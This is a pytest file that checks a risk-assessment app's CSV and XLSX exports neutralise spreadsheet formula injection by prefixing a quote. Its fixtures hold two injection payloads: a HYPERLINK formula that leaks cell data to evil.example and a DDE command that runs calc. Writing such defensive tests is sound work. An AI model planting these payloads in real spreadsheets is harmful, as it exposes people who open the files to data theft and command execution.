"""CSV/XLSX exports never hand a spreadsheet a formula: text an officer typed that starts with
= + - @ tab or CR is written with a leading single quote (OWASP), and numbers stay numbers."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest

from riskapp.db import db
from riskapp.models import Enterprise
from riskapp.province import exports
from riskapp.spreadsheets import FORMULA_STARTS, neutralise
from tests import factories

NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
ADDRESS = "+cmd|' /C calc'!A0"


@pytest.fixture
def hostile(app, world):
    """An enterprise, with a submitted assessment, whose officer typed formulas into its profile."""
    with app.app_context():
        enterprise = db.session.get(Enterprise, world.a.enterprise.id)
        enterprise.name, enterprise.address = NAME, ADDRESS
        factories.submit_assessment(enterprise, db.session.merge(world.a.officer))
        db.session.commit()
    return world


@pytest.mark.parametrize(("value", "written"), [
    ("=1+2", "'=1+2"), ("+84 912 345 678", "'+84 912 345 678"), ("-x", "'-x"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("Công ty May", "Công ty May"), ("", ""), ("a=b", "a=b"),
    (-5, -5), (-2.5, -2.5), (None, None), (0, 0),
])
def test_one_rule_for_every_cell(value, written):
    assert neutralise(value) == written


def test_the_enterprise_csv_quotes_formulas_and_keeps_the_text(hostile, client, login_as):
    login_as(hostile.a.viewer)
    response = client.get("/province/export/enterprises.csv")
    assert response.status_code == 200
    frame = pd.read_csv(io.BytesIO(response.data), dtype=str, encoding="utf-8-sig")
    cells = set(frame.astype(str).to_numpy().ravel())
    assert "'" + NAME in cells and "'" + ADDRESS in cells
    assert NAME not in cells and ADDRESS not in cells


def test_the_enterprise_xlsx_quotes_formulas(hostile, client, login_as):
    login_as(hostile.a.viewer)
    response = client.get("/province/export/enterprises.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    values = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]
    assert "'" + NAME in values and "'" + ADDRESS in values
    assert not any(isinstance(v, str) and v.startswith(FORMULA_STARTS) for v in values)


def test_the_tables_export_quotes_formulas_in_every_sheet(hostile, client, login_as):
    login_as(hostile.a.viewer)
    book = openpyxl.load_workbook(io.BytesIO(client.get("/province/export/tables.xlsx").data))
    values = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row]
    assert "'" + NAME in values  # the "inspect first" ranking names the enterprise
    assert not any(isinstance(v, str) and v.startswith(FORMULA_STARTS) for v in values)
    ranking = list(book.sheetnames).index("Inspect first")
    csv = client.get(f"/province/export/tables.csv?table={ranking}")
    read = pd.read_csv(io.BytesIO(csv.data), dtype=str, encoding="utf-8-sig")
    assert read["Enterprise"].tolist() == ["'" + NAME]


def test_negative_numbers_stay_numbers(app):
    frame = pd.DataFrame({"name": ["-dash", "plain"], "change": [-3, 4], "share": [-1.5, None]})
    with app.test_request_context():
        book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx({"T": frame})))
        rows = list(book.active.iter_rows(min_row=2, values_only=True))
        assert rows == [("'-dash", -3, -1.5), ("plain", 4, None)]
        read = pd.read_csv(io.BytesIO(exports.to_csv(frame)), encoding="utf-8-sig")
    assert read["change"].tolist() == [-3, 4]
    assert read["name"].tolist() == ["'-dash", "plain"]
